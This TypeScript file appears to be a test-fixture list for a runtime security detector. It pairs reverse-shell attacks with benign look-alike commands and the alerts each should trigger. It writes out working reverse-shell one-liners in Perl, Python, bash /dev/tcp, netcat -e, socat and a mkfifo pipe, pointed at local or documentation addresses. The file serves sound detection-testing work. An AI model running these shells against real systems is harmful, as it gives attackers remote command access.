import { type Attack, ownNetwork, python, shell, toListener } from './attack.ts';

const perlShell =
  'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton("127.0.0.1")));open(STDIN,"<&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");';
const pythonShell =
  'import socket,os,subprocess;s=socket.socket();s.connect(("127.0.0.1",4444));[os.dup2(s.fileno(),i) for i in (0,1,2)];subprocess.call(["/bin/sh"])';

export const reverseShells: readonly Attack[] = [
  {
    what: 'a reverse shell of a script in Python',
    attack: toListener('python3', '/attack/reverse_shell.py'),
    expected: ['Shell on a network connection'],
    by: 'sh',
    twin: python('/attack/child_process.py'),
  },
  {
    what: 'a reverse shell in C',
    attack: toListener('/attack/attacker', 'reverse-shell'),
    expected: ['Shell on a network connection'],
    by: 'sh',
    twin: shell('/attack/attacker; true'),
  },
  {
    what: 'a reverse shell in a line of Python',
    attack: {
      ...toListener('sh', '-c', 'exec python3 -c "$LINE"'),
      options: ['--env', `LINE=${pythonShell}`],
    },
    expected: ['Reverse shell in one line of a script language', 'Shell on a network connection'],
    by: 'python3 -c import socket',
    twin: python('-c', 'import socket; socket.socket().connect_ex(("127.0.0.1", 8080))'),
  },
  {
    what: 'a reverse shell in a line of Perl',
    attack: {
      ...toListener('sh', '-c', 'exec perl -e "$LINE"'),
      options: ['--env', `LINE=${perlShell}`],
    },
    expected: ['Reverse shell in one line of a script language', 'Shell on a network connection'],
    by: 'perl -e use Socket',
    twin: { command: ['perl', '-e', 'use Socket; print inet_aton("127.0.0.1") ? 1 : 0'] },
  },
  {
    what: "a reverse shell of bash's own",
    attack: shell(
      'ip addr add 203.0.113.5/32 dev lo; python3 /attack/listener.py 4444 bash -c "$LINE"; true',
      ...ownNetwork,
      ...['--env', 'LINE=bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'],
    ),
    expected: [
      'Shell told to connect',
      'Shell on a network connection',
      'Internet reached by hand from a container',
    ],
    by: 'bash -c bash -i',
    twin: { command: ['bash', '-c', '</dev/tcp/127.0.0.1/8080'] },
  },
  {
    what: 'netcat that starts a shell',
    attack: toListener('nc.traditional', '-e', '/bin/sh', '127.0.0.1', '4444'),
    expected: ['Connection handed to a program', 'Shell on a network connection'],
    by: 'nc.traditional -e',
    twin: { command: ['nc.traditional', '-z', '127.0.0.1', '8080'] },
  },
  {
    what: 'socat that starts a shell',
    attack: toListener('socat', 'TCP:127.0.0.1:4444', 'EXEC:/bin/sh'),
    expected: ['Connection handed to a program'],
    by: 'socat TCP:',
    twin: { command: ['socat', '-u', '/dev/null', 'OPEN:/dev/null'] },
  },
  {
    what: 'a shell tied to netcat by a named pipe',
    attack: toListener(
      'sh',
      '-c',
      'mkfifo /f; cat /f | sh -i 2>&1 | nc.traditional 127.0.0.1 4444 > /f',
    ),
    expected: ['Shell tied to a network tool by a named pipe'],
    by: 'sh -c mkfifo',
    twin: shell('mkfifo /f; cat /f > /dev/null & echo x > /f; true'),
  },
  {
    what: 'a terminal for a shell that has none',
    attack: shell('python3 -c \'import pty; pty.spawn("/bin/true")\'; true'),
    expected: ['Terminal made for a shell without one'],
    by: 'python3 -c import pty',
    twin: shell('script -qc true /root/log; true'),
  },
];
